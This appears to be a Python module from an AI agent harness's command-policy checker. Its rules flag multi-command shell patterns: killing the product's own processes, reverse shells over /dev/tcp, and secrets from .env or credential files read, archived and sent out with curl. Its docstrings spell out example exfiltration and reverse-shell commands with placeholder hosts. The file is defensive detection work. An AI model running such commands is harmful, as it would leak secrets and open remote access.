"""The rules of section D that several commands of one text break together."""

from collections.abc import Callable, Iterator, Sequence

from agents.harness.policy import files, network, targets
from agents.harness.policy.commands import Command
from agents.harness.policy.context import Context
from agents.harness.policy.denies_product import names_own_process
from agents.harness.policy.denies_theft import (
    NET_DEVICE,
    REVERSE_SHELL,
    THEFT,
    secret_upstream,
)
from agents.harness.policy.findings import Finding
from agents.harness.policy.shell import reads_secret
from agents.harness.policy.wrappers import SHELLS

_LOOKS_UP = frozenset({"pgrep", "pidof", "ps", "lsof", "fuser", "ss", "netstat", "pstree"})
_SIFTS = frozenset({"grep", "egrep", "fgrep", "rg", "awk", "gawk", "sed"})
_OF_THE_SHELL = frozenset({"HOME", "PWD", "OLDPWD", "USER", "PATH", "SHELL", "RANDOM"})
_READS_NAMES = frozenset({"read", "mapfile", "readarray"})


def in_the_whole(context: Context, commands: Sequence[Command]) -> Iterator[Finding]:
    """What no command does by itself."""
    for rule in _RULES:
        yield from rule(context, commands)


def _stops_what_it_looked_up(context: Context, commands: Sequence[Command]) -> Iterator[Finding]:
    """D4: `kill $(pgrep -f NAME)`: the product's processes, by a name or a port of theirs."""
    kills = any(
        command.name == "kill" and not all(word.known for word in command.words)
        for command in commands
    )
    if kills and any(
        _is_look_up(command) and names_own_process(context, command.arguments)
        for command in commands
    ):
        yield Finding("D4", "Stops processes of this product")


def _is_look_up(command: Command) -> bool:
    upstream = command.upstream
    return command.name in _LOOKS_UP or (
        command.name in _SIFTS and upstream is not None and upstream.name in (*_LOOKS_UP, *_SIFTS)
    )


def _shell_on_a_descriptor(_context: Context, commands: Sequence[Command]) -> Iterator[Finding]:
    """D7: `exec 5<>/dev/tcp/HOST/PORT`, and then something unknown that listens and talks there."""
    opened = {
        one.number
        for command in commands
        for one in command.redirections
        if one.number and NET_DEVICE.match(one.target.text)
    }
    for command in commands:
        is_open_ended = command.name in (*SHELLS, "eval") or (
            bool(command.words) and not command.words[0].known
        )
        uses = {one.target.text for one in command.redirections if "&" in one.operator}
        if is_open_ended and opened & uses:
            yield REVERSE_SHELL


def _sends_what_it_read(context: Context, commands: Sequence[Command]) -> Iterator[Finding]:
    """D7: `while read line; do curl HOST/$line; done < SECRET`."""
    tainted = {
        word.text
        for command in commands
        if command.name in _READS_NAMES
        and (secret_upstream(context, command) or reads_secret(context, command)
             or _gives_a_secret(context, commands))
        for word in command.words[1:]
    }  # fmt: skip
    for command in commands:
        if tainted and network.is_outside(command):
            words = [*command.words, *(one.target for one in command.redirections)]
            if any(word.names & tainted for word in words):
                yield THEFT


def _sends_what_it_loaded(context: Context, commands: Sequence[Command]) -> Iterator[Finding]:
    """D7: `. ./.env; curl HOST/$KEY`: a variable that only the secret file can have set."""
    loaded = False
    for command in commands:
        if command.name in ("source", "."):
            loaded = loaded or reads_secret(context, command)
        elif command.name in ("export", "eval"):
            loaded = loaded or any(word.tainted for word in command.words)
        elif loaded and network.is_outside(command):
            words = [*command.words, *(one.target for one in command.redirections)]
            if any(not word.known and word.names - _OF_THE_SHELL for word in words):
                yield THEFT


def _gives_a_secret(context: Context, commands: Sequence[Command]) -> bool:
    """Whether a loop or a block has a secret as its input: redirections without a command."""
    return any(not command.words and reads_secret(context, command) for command in commands)


def _loot(context: Context, commands: Sequence[Command]) -> Iterator[Finding]:
    """D7: a secret that goes into a file, and that file to another machine, in one call."""
    if not any(network.is_outside(command) for command in commands):
        return
    loot: set[str] = set()
    for command in commands:
        if loot and network.is_outside(command):
            words = [*command.words[1:], *(one.target for one in command.redirections)]
            sent = {
                files.real(context, part, cwd=command.cwd)
                for word in words
                for part in (word.text, word.text.rpartition("@")[2], word.text.rpartition("=")[2])
                if part
            }
            if sent & loot:
                yield THEFT
        if reads_secret(context, command) or secret_upstream(context, command):
            loot.update(targets.written(context, command))
            if command.name in ("tar", "zip", "7z", "cp", "base64", "gpg", "openssl"):
                loot.update(
                    files.real(context, word.text, cwd=command.cwd)
                    for word in command.words[1:]
                    if word.text and not word.text.startswith("-")
                )


_RULES: tuple[Callable[[Context, Sequence[Command]], Iterator[Finding]], ...] = (
    _stops_what_it_looked_up,
    _shell_on_a_descriptor,
    _sends_what_it_read,
    _sends_what_it_loaded,
    _loot,
)
